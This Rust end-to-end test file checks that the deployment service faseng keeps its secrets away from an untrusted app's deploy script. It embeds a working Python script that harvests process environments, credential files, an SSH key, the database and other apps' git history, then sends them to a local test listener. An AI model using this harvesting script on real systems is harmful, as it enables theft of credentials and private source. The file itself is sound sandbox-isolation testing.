//! A deploy script that goes looking for faseng's secrets, run by the real `faseng serve`
//! binary holding real-looking secrets in its environment and in a secret file. The script
//! reads `/proc/*/environ` and `/proc/*/cmdline`, faseng's store files, its app.json and
//! secret file, every file under faseng's work directory (another app's clone cache among
//! them, with `git show` as well) and sends all it got to a listener of the test. Nothing
//! secret may arrive; the script's own `DEPLOY_ID` must (so the test can fail).
//!
//! Run twice: faseng as root (as CI runs it: providers as `nobody`, in bubblewrap where it
//! works) and faseng as an ordinary user (providers in a bubblewrap sandbox). When the tests
//! do not run as root, only the second runs, as the current user.

use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

use e2e::fake_github::{self, FakeGithub};
use e2e::fake_slack::FakeSlack;
use e2e::git_repo::GitRepo;
use e2e::procs::ProcessEnv;
use serde_json::json;
use tokio::io::AsyncReadExt as _;
use tokio::process::Child;

const WAIT: Duration = Duration::from_secs(60);
const VICTIM: &str = "oursky/victim";
const ATTACKER: &str = "mallory/app";
const VICTIM_SOURCE_MARKER: &str = "victim-source-8d1f6a";
const VICTIM_LOG_MARKER: &str = "victim-log-52c9e0";

/// The secrets faseng holds in this test.
struct Secrets {
    webhook: String,
    heroku: String,
    deploy_key_line: String,
    slack_file_token: String,
}

impl Secrets {
    fn new() -> Self {
        let r = || e2e::dirs::random_hex(12);
        Self {
            webhook: format!("whsec-{}", r()),
            heroku: format!("hrku-{}", r()),
            deploy_key_line: format!("deploykeyline{}", r()),
            slack_file_token: format!("xoxb-from-file-{}", r()),
        }
    }

    /// Every value that must never reach a provider.
    fn all(&self) -> Vec<&str> {
        vec![
            &self.webhook,
            &self.heroku,
            &self.deploy_key_line,
            &self.slack_file_token,
            fake_github::TOKEN,
            VICTIM_SOURCE_MARKER,
            VICTIM_LOG_MARKER,
        ]
    }
}

/// The attacker's deploy script: Python, reading everything it can reach and sending it.
fn exfiltrating_script(port: u16, base: &Path) -> String {
    let base = base.display();
    format!(
        r#"#!/usr/bin/python3
import glob, json, os, socket, subprocess
got = {{"deploy_id": os.environ.get("DEPLOY_ID"), "uid": os.getuid()}}
def grab(label, path, limit=1 << 20):
    try:
        with open(path, "rb") as f:
            got[label] = f.read(limit).decode("latin1")
    except Exception as e:
        got[label] = "unreadable: %r" % (e,)
for p in glob.glob("/proc/[0-9]*"):
    grab(p + "/environ", p + "/environ")
    grab(p + "/cmdline", p + "/cmdline")
for name in ["faseng.db", "faseng.db-wal", "faseng.db-shm", "app.json", "secrets/slack-token", "deploy_key"]:
    grab(name, "{base}/" + name)
for root, dirs, files in os.walk("{base}"):
    for f in files:
        path = os.path.join(root, f)
        grab(path, path)
for mirror in glob.glob("{base}/work/repos/*/*.git") + ["{base}/work/repos/oursky/victim.git"]:
    try:
        got["git " + mirror] = subprocess.run(["git", "--git-dir", mirror, "log", "-p", "--all"], capture_output=True, timeout=20).stdout.decode("latin1")
    except Exception as e:
        got["git " + mirror] = "failed: %r" % (e,)
got["env"] = dict(os.environ)
s = socket.create_connection(("127.0.0.1", {port}))
s.sendall(json.dumps(got).encode())
s.close()
print("sent", len(got), "items")
"#
    )
}

/// A bare copy of `repo` at `path`.
fn bare_copy(repo: &GitRepo, path: &Path) {
    e2e::deploy_config::bare_clone(repo.path(), path);
}

fn chown_tree(path: &Path, uid: u32, gid: u32) {
    std::os::unix::fs::lchown(path, Some(uid), Some(gid)).unwrap();
    if std::fs::symlink_metadata(path).unwrap().is_dir() {
        for e in std::fs::read_dir(path).unwrap() {
            chown_tree(&e.unwrap().path(), uid, gid);
        }
    }
}

struct Run {
    gh: FakeGithub,
    _slack: FakeSlack,
    faseng: Child,
    _dir: tempfile::TempDir,
    url: String,
    secrets: Secrets,
    received: tokio::sync::mpsc::UnboundedReceiver<String>,
    _repos: (GitRepo, GitRepo),
}

/// Starts faseng (as `run_as`, a uid and gid, or as this process's user) with two apps.
async fn start(run_as: Option<(u32, u32)>) -> Run {
    let dir = e2e::dirs::scenario_dir();
    let base = dir.path().join("faseng");
    std::fs::create_dir_all(base.join("secrets")).unwrap();
    std::fs::set_permissions(&base, std::fs::Permissions::from_mode(0o711)).unwrap();
    let secrets = Secrets::new();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let (tx, received) = tokio::sync::mpsc::unbounded_channel();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let tx = tx.clone();
            tokio::spawn(async move {
                let mut text = String::new();
                let _ = socket.read_to_string(&mut text).await;
                let _ = tx.send(text);
            });
        }
    });

    let victim = GitRepo::new();
    victim.write("secret.txt", &format!("{VICTIM_SOURCE_MARKER}\n"));
    victim.write_executable(
        "script/deploy",
        &format!("#!/bin/sh\necho {VICTIM_LOG_MARKER}\n"),
    );
    let victim_sha = victim.commit("victim");
    let attacker = GitRepo::new();
    attacker.write_executable("script/deploy", &exfiltrating_script(port, &base));
    let attacker_sha = attacker.commit("attacker");
    bare_copy(&victim, &base.join("victim.git"));
    bare_copy(&attacker, &base.join("attacker.git"));

    let apps = json!({
        "victim": {"provider": "shell", "repository": VICTIM, "environments": ["edge"],
                   "clone_url": base.join("victim.git")},
        "attacker": {"provider": "shell", "repository": ATTACKER, "environments": ["edge"],
                     "clone_url": base.join("attacker.git")},
    });
    std::fs::write(base.join("app.json"), apps.to_string()).unwrap();
    std::fs::write(base.join("secrets/slack-token"), &secrets.slack_file_token).unwrap();
    std::fs::write(
        base.join("deploy_key"),
        format!(
            "-----BEGIN OPENSSH PRIVATE KEY-----\n{}\n-----END OPENSSH PRIVATE KEY-----\n",
            secrets.deploy_key_line
        ),
    )
    .unwrap();
    for f in ["app.json", "secrets/slack-token", "deploy_key"] {
        std::fs::set_permissions(base.join(f), std::fs::Permissions::from_mode(0o600)).unwrap();
    }
    // faseng runs its own copy of the binary, which an ordinary user can reach.
    let exe = base.join("faseng-bin");
    std::fs::copy(e2e::bins::binary("faseng"), &exe).unwrap();
    std::fs::set_permissions(&exe, std::fs::Permissions::from_mode(0o755)).unwrap();
    if let Some((uid, gid)) = run_as {
        chown_tree(&base, uid, gid);
    }

    let gh = FakeGithub::start().await;
    let slack = FakeSlack::start().await;
    for (repo, sha) in [(VICTIM, &victim_sha), (ATTACKER, &attacker_sha)] {
        gh.add_repo(repo, "main");
        gh.set_branch(repo, "main", sha);
    }
    let port = e2e::net::free_port("127.0.0.1");
    let url = format!("http://127.0.0.1:{port}");
    gh.set_webhook(&format!("{url}/webhooks/github"), &secrets.webhook);
    let mut env = ProcessEnv::faseng(
        &base,
        &format!("sqlite://{}/faseng.db", base.display()),
        &base.join("app.json"),
        &gh,
        &secrets.webhook,
    );
    env.bind(port)
        .set("RUST_LOG", "info")
        .set("SLACK_BOT_TOKEN_FILE", base.join("secrets/slack-token"))
        .set("SLACK_API_URL", slack.api_url())
        .set("HEROKU_API_KEY", &secrets.heroku)
        .set("DEPLOY_SSH_KEY_FILE", base.join("deploy_key"));
    let log = std::fs::File::create(dir.path().join("faseng.log")).unwrap();
    let mut cmd = env.command(&exe);
    cmd.arg("serve")
        .current_dir(&base)
        .stdout(Stdio::from(log.try_clone().unwrap()))
        .stderr(Stdio::from(log));
    if let Some((uid, gid)) = run_as {
        cmd.uid(uid).gid(gid);
    }
    let mut faseng = cmd.spawn().expect("faseng starts");
    let http = reqwest::Client::new();
    let log_path = dir.path().join("faseng.log");
    e2e::net::wait_healthy(&http, &url, &mut faseng, WAIT, || {
        std::fs::read_to_string(&log_path).unwrap_or_default()
    })
    .await;
    Run {
        gh,
        _slack: slack,
        faseng,
        _dir: dir,
        url,
        secrets,
        received,
        _repos: (victim, attacker),
    }
}

impl Run {
    async fn deploy(&self, repo: &str, name: &str) -> serde_json::Value {
        let d = self
            .gh
            .create_deployment(
                repo,
                json!({"ref": "main", "environment": "edge", "auto_merge": false,
                       "required_contexts": [], "payload": {"name": name}}),
            )
            .await;
        let id = d["id"].as_u64().unwrap();
        self.gh
            .wait_until(WAIT, &format!("a final status for #{id}"), |gh| {
                gh.statuses(id)
                    .into_iter()
                    .find(|s| matches!(s["state"].as_str(), Some("success" | "failure" | "error")))
            })
            .await
    }

    async fn healthz(&self) -> String {
        e2e::net::get_text(&reqwest::Client::new(), &format!("{}/healthz", self.url)).await
    }
}

async fn nothing_secret_reaches_a_deploy_script(run_as: Option<(u32, u32)>) {
    let mut run = start(run_as).await;
    let victim = run.deploy(VICTIM, "victim").await;
    assert_eq!(victim["state"], "success", "{victim}");
    let attacker = run.deploy(ATTACKER, "attacker").await;
    assert_eq!(attacker["state"], "success", "{attacker}");
    let got = tokio::time::timeout(WAIT, run.received.recv())
        .await
        .expect("the script sent what it found")
        .unwrap();
    let id = attacker["deployment_url"]
        .as_str()
        .and_then(|u| u.rsplit('/').next())
        .unwrap()
        .to_owned();
    assert!(
        got.contains(&format!("\"deploy_id\": \"{id}\"")),
        "the listener got something other than the script's report: {got:.300}"
    );
    for secret in run.secrets.all() {
        assert!(
            !got.contains(secret),
            "the deploy script obtained {secret:?}; healthz says {:?}",
            run.healthz().await
        );
    }
    assert!(
        !run.healthz().await.contains("share faseng's user"),
        "{}",
        run.healthz().await
    );
    let _ = run.faseng.kill().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn as_root_a_deploy_script_gets_nothing_of_fasengs() {
    if !nix::unistd::geteuid().is_root() {
        eprintln!("SKIPPED: faseng as root needs the tests to run as root (CI does)");
        return;
    }
    nothing_secret_reaches_a_deploy_script(None).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn as_an_ordinary_user_a_sandboxed_deploy_script_gets_nothing_of_fasengs() {
    if !Path::new("/usr/bin/bwrap").exists() {
        eprintln!("SKIPPED: bubblewrap is not installed (apt-get install bubblewrap)");
        return;
    }
    let run_as = if nix::unistd::geteuid().is_root() {
        let nobody = nix::unistd::User::from_name("nobody").unwrap().unwrap();
        Some((nobody.uid.as_raw(), nobody.gid.as_raw()))
    } else {
        None
    };
    nothing_secret_reaches_a_deploy_script(run_as).await;
}
